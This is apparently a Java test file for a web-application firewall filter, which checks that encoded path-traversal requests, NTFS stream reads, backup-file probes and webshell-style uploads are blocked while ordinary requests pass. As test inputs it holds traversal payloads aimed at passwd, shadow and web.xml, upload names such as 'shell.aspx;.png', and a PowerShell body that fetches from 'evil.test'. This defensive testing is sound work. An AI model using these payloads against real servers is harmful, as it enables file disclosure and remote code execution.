package dev.bulwark.servlet;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.core.config.BulwarkConfig;
import dev.bulwark.testsupport.MultipartBody;
import dev.bulwark.testsupport.RawHttp;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/**
 * Traversal to well-known files behind exotic encodings, restricted extensions in the request
 * path and risky upload names, over real HTTP: blocked with a bare problem response, the rule
 * named in the security log only.
 */
class PathRulesOverHttpTest extends FilterContainerTest {

    @Override
    BulwarkConfig config() {
        return BulwarkConfig.fromYaml("""
                deny-rules:
                  level: standard
                  restricted-extensions:
                    add: [tpl]
                    remove: [ini]
                """);
    }

    /** Blocked before the application, the rule only in the log. */
    private void refusedAndLogged(RawHttp.Response response, String ruleId) {
        assertThat(assertBlockedAndLogged(response, ruleId, "passwd", "PATH").get("rule.id").asText()).isEqualTo(ruleId);
    }

    @Test
    void blocksPasswdBehindOverlongUtf8AndLeftOverEscapes() {
        int before = servlet.calls.get();

        RawHttp.Response response = rawGet("/files?name=%c0.%c0.%c0%qfetc%c0%qfpasswd");

        assertThat(servlet.calls.get()).isEqualTo(before);
        refusedAndLogged(response, "PATH-SENSITIVE-FILE");
    }

    @Test
    void blocksTraversalSpelledWithHexTextAndPrivateUseSlashes() {
        refusedAndLogged(rawGet("/files?name=0x2e0x2e%uEFC80x2e0x2e%uEFC8windows%uEFC8win.ini"), "PATH-TRAVERSAL");
    }

    @Test
    void blocksPasswdBehindDoublePercentEscapesOfTheSlash() {
        int before = servlet.calls.get();

        RawHttp.Response response = rawGet("/files?name=..%%32%%66..%%32%%66etc%%32%%66passwd");

        assertThat(servlet.calls.get()).isEqualTo(before);
        refusedAndLogged(response, "PATH-SENSITIVE-FILE");
    }

    @Test
    void blocksShadowBehindRedundantSeparators() {
        refusedAndLogged(rawGet("/files?name=%2F%2Fetc%2F%2Fshadow"), "PATH-SENSITIVE-FILE");
    }

    @Test
    void blocksIncludeFileInRequestPath() {
        refusedAndLogged(rawGet("/includes/db.inc"), "PATH-RESTRICTED-EXTENSION");
    }

    @Test
    void blocksConfiguredExtraExtensionInRequestPath() {
        refusedAndLogged(rawGet("/views/header.tpl"), "PATH-RESTRICTED-EXTENSION");
    }

    @Test
    void blocksRestrictedExtensionInPathParameter() {
        refusedAndLogged(rawGet("/admin/index.php;.bak"), "PATH-RESTRICTED-EXTENSION");
    }

    @Test
    void blocksAspxUploadHiddenBehindSemicolon() {
        byte[] body = MultipartBody.onePart("b", "form-data; name=\"file\"; filename=\"shell.aspx;.png\"", "image/png",
                "GIF89a".getBytes(StandardCharsets.UTF_8));

        HttpResponse<String> response = post("/upload", "multipart/form-data; boundary=b", body);

        assertThat(assertBlockedAndLogged(response).get("rule.id").asText()).isEqualTo("PATH-UPLOAD-SCRIPT");
    }

    @Test
    void passesRemovedExtensionAndOrdinaryFileNames() {
        assertThat(rawGet("/settings/site.ini").status()).isEqualTo(200);
        assertThat(rawGet("/docs/report.final.pdf?owner=O%27Brien&file=notes.md").status()).isEqualTo(200);
    }

    @Test
    void passesOrdinaryUploadByteForByte() {
        byte[] body = MultipartBody.onePart("b", "form-data; name=\"file\"; filename=\"report.final.pdf\"",
                "application/pdf", "%PDF-1.7 ../etc".getBytes(StandardCharsets.UTF_8));

        HttpResponse<String> response = post("/upload", "multipart/form-data; boundary=b", body);

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(json(response.body()).get("bodySha256").asText()).isEqualTo(RecordingServlet.sha256(body));
    }

    @Test
    void blocksSiteArchiveInRequestPath() {
        refusedAndLogged(rawGet("/www.tar.gz"), "PATH-BACKUP-FILE");
    }

    @Test
    void passesScimSearchEndpoint() {
        HttpResponse<String> response = post("/scim/v2/Users/.search", "application/scim+json",
                "{\"filter\":\"userName eq \\\"bjensen\\\"\"}".getBytes(StandardCharsets.UTF_8));

        assertThat(response.statusCode()).isEqualTo(200);
    }

    @Test
    void blocksColdFusionUpload() {
        byte[] body = MultipartBody.onePart("b", "form-data; name=\"file\"; filename=\"shell.cfm\"", "image/png",
                "<cfexecute name=\"cmd.exe\">".getBytes(StandardCharsets.UTF_8));

        HttpResponse<String> response = post("/upload", "multipart/form-data; boundary=b", body);

        assertThat(assertBlockedAndLogged(response).get("rule.id").asText()).isEqualTo("PATH-UPLOAD-SCRIPT");
    }

    @Test
    void blocksPowerShellScriptUpload() {
        byte[] body = MultipartBody.onePart("b", "form-data; name=\"file\"; filename=\"x.ps1\"", "text/plain",
                "Invoke-WebRequest http://evil.test/x".getBytes(StandardCharsets.UTF_8));

        HttpResponse<String> response = post("/upload", "multipart/form-data; boundary=b", body);

        assertThat(assertBlockedAndLogged(response, "x.ps1").get("rule.id").asText()).isEqualTo("PATH-UPLOAD-EXECUTABLE");
    }

    @Test
    void passesInstallerUploadByteForByte() {
        byte[] body = MultipartBody.onePart("b", "form-data; name=\"file\"; filename=\"setup.exe\"",
                "application/octet-stream", "MZ....".getBytes(StandardCharsets.UTF_8));

        HttpResponse<String> response = post("/upload", "multipart/form-data; boundary=b", body);

        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(json(response.body()).get("bodySha256").asText()).isEqualTo(RecordingServlet.sha256(body));
    }

    @Test
    void blocksScriptSourceReadThroughNtfsDataStream() {
        int before = servlet.calls.get();

        RawHttp.Response response = rawGet("/index.php::$DATA");

        assertThat(servlet.calls.get()).isEqualTo(before);
        refusedAndLogged(response, "PATH-NTFS-STREAM");
    }

    @Test
    void blocksWebXmlBehindTrailingDotWindowsDrops() {
        refusedAndLogged(rawGet("/files?name=%2FWEB-INF.%2Fweb.xml"), "PATH-SENSITIVE-FILE");
    }

    @Test
    void blocksEmacsAutoSaveInRequestPath() {
        refusedAndLogged(rawGet("/%23index.php%23"), "PATH-BACKUP-FILE");
    }

    @Test
    void passesColonsInOrdinaryRequestPaths() {
        assertThat(rawGet("/wiki/Special:Random").status()).isEqualTo(200);
        assertThat(rawGet("/v1/projects/p1:batchGet").status()).isEqualTo(200);
    }

    @Test
    void blocksJspUploadNameEndingInSlashThatJavaFileApisDrop() {
        byte[] body = MultipartBody.onePart("b", "form-data; name=\"file\"; filename=\"x.jsp/\"", "image/png",
                "<% out.println(1); %>".getBytes(StandardCharsets.UTF_8));

        HttpResponse<String> response = post("/upload", "multipart/form-data; boundary=b", body);

        assertThat(assertBlockedAndLogged(response).get("rule.id").asText()).isEqualTo("JAVA-JSP-UPLOAD");
    }
}
